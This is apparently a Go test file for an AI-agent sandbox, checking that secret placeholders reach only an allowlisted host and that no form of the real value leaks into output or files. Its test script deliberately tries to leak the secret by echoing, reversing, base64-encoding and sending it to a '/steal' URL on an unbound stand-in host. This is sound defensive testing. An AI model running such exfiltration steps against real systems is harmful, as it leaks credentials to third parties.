package sandbox

import (
	"context"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/bulwark-agents/bulwark/sandbox/egress"
)

// Secrets never enter the sandbox: code sees only {{secret:TOKEN}}; the
// proxy puts the value into its HTTPS requests to the bound host (query,
// header, body, which TOKEN opted into), which receives it; HDR, left at
// headers only, refuses a request that carries it in a body (session 36); what the code prints, writes, reverses,
// dumps or encodes, what the server echoes back, and what it sends to an
// unbound host hold only the placeholder.
func TestSecretsThroughProxy(t *testing.T) {
	requireSandbox(t)
	const value = "tok-9f8e7d6c5b4a-REAL"
	const ph = "{{secret:TOKEN}}"
	var mu sync.Mutex
	var received []string
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		line := fmt.Sprintf("host=%s uri=%s auth=%s body=%s", r.Host, r.RequestURI, r.Header.Get("Authorization"), b)
		mu.Lock()
		received = append(received, line)
		mu.Unlock()
		io.WriteString(w, "echo "+line) // the server sends the value back
	}))
	defer srv.Close()
	bound, _ := egress.ParseAllowlist([]string{"example.com"})
	const hdrValue = "hdr-1a2b3c4d5e6f-REAL"
	ic, err := egress.NewIntercept([]egress.Secret{
		{Name: "TOKEN", Placeholder: ph, Value: value, Hosts: bound, InURL: true, InBody: true},
		{Name: "HDR", Placeholder: "{{secret:HDR}}", Value: hdrValue, Hosts: bound},
	})
	if err != nil {
		t.Fatal(err)
	}
	ic.Roots = x509.NewCertPool()
	ic.Roots.AddCert(srv.Certificate()) // for example.com and *.example.com
	var events []egress.Event
	ws := t.TempDir()
	spec := Spec{
		Workspace:    ws,
		AllowExec:    []string{"python3", "bash", "curl", "rev", "od", "base64", "cat", "env"},
		AllowDomains: []string{"example.com", "unbound.example.com"},
		Intercept:    ic,
		Dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, network, srv.Listener.Addr().String())
		},
		OnEgress: func(e egress.Event) { mu.Lock(); events = append(events, e); mu.Unlock() },
	}
	script := `
set -u
echo "printed: {{secret:TOKEN}}"
echo "{{secret:TOKEN}}" > /workspace/token.txt
echo "{{secret:TOKEN}}" | rev
echo "{{secret:TOKEN}}" | od -c
echo "{{secret:TOKEN}}" | base64
env
python3 - <<'PY'
import urllib.request, urllib.error
def call(url, data=None, auth=None):
    req = urllib.request.Request(url, data=data)
    if auth:
        req.add_header("Authorization", auth)
    try:
        return urllib.request.urlopen(req, timeout=20).read().decode()
    except urllib.error.HTTPError as e:
        return "HTTP %d %s" % (e.code, e.read().decode())
    except Exception as e:
        return "ERR %r" % e
print("bound:", call("https://example.com/api?key={{secret:TOKEN}}", b'{"t":"{{secret:TOKEN}}"}', "Bearer {{secret:TOKEN}}"))
print("unbound:", call("https://unbound.example.com/steal?key={{secret:TOKEN}}", None, "Bearer {{secret:TOKEN}}"))
open("/workspace/response.txt", "w").write(call("https://example.com/file", b"{{secret:TOKEN}}"))
print("hdr header:", call("https://example.com/hdr", None, "Bearer {{secret:HDR}}"))
print("hdr body:", call("https://example.com/store", b'{"c":"{{secret:HDR}}"}', "Bearer {{secret:HDR}}"))
PY
curl -sS -g -H "Authorization: Bearer {{secret:TOKEN}}" "https://example.com/curl?key={{secret:TOKEN}}"; echo
`
	res := mustRun(t, spec, "bash", "-c", script)
	out := string(res.Stdout) + string(res.Stderr)
	if res.ExitCode != 0 {
		t.Fatalf("script exit %d:\n%s", res.ExitCode, out)
	}
	mu.Lock()
	got := strings.Join(received, "\n")
	mu.Unlock()
	for _, want := range []string{"uri=/api?key=" + value, "auth=Bearer " + value, `body={"t":"` + value + `"}`, "uri=/curl?key=" + value, "body=" + value} {
		if !strings.Contains(got, want) {
			t.Errorf("the bound host received:\n%s\nwant %q in it", got, want)
		}
	}
	if strings.Contains(got, "unbound") || strings.Contains(got, "/steal") {
		t.Errorf("the request to the unbound host reached a server:\n%s", got)
	}
	if !strings.Contains(got, "uri=/hdr auth=Bearer "+hdrValue) || strings.Contains(got, "/store") {
		t.Errorf("HDR (headers only): the bound host received:\n%s\nwant its value in the header of /hdr, and no /store", got)
	}
	for _, want := range []string{"printed: " + ph, "bound: echo host=example.com uri=/api?key=" + ph, "unbound: HTTP 403", "hdr body: HTTP 403", "secret HDR", "SSL_CERT_FILE=/run/bulwark/ca-bundle.pem"} {
		if !strings.Contains(out, want) {
			t.Errorf("sandbox output lacks %q:\n%s", want, out)
		}
	}
	// Nothing the code printed or wrote holds the value in any form.
	forms := map[string]string{
		"value":    value,
		"hdr":      hdrValue,
		"reversed": reverse(value),
		"base64":   base64.StdEncoding.EncodeToString([]byte(value + "\n")),
		"spaced":   strings.Join(strings.Split(value[:8], ""), "   "),
		"fragment": value[4:16],
	}
	files := map[string]string{"output": out}
	filepath.Walk(ws, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			files[p] = string(b)
		}
		return nil
	})
	if len(files) < 3 {
		t.Errorf("the script's files are missing: %v", files)
	}
	for where, text := range files {
		for name, f := range forms {
			if strings.Contains(text, f) {
				t.Errorf("%s holds the secret (%s):\n%s", where, name, text)
			}
		}
	}
	mu.Lock()
	defer mu.Unlock()
	var refused bool
	for _, e := range events {
		if !e.Allowed && e.Secret == "TOKEN" && e.Host == "unbound.example.com" {
			refused = true
		}
	}
	if !refused {
		t.Errorf("no event reported the placeholder sent to unbound.example.com: %+v", events)
	}
}

func reverse(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}

// A sandbox without secrets for its proxy trusts only the system roots: no
// task CA, no CA variables.
func TestNoTrustWithoutSecrets(t *testing.T) {
	requireSandbox(t)
	res := mustRun(t, Spec{AllowExec: []string{"bash", "ls", "env"}, AllowDomains: []string{"example.com"}},
		"bash", "-c", "ls /run/bulwark 2>&1; env")
	out := string(res.Stdout)
	if !strings.Contains(out, "No such file") || strings.Contains(out, "SSL_CERT_FILE") || strings.Contains(out, "NODE_EXTRA_CA_CERTS") {
		t.Errorf("a sandbox without secrets has trust set up:\n%s%s", out, res.Stderr)
	}
}
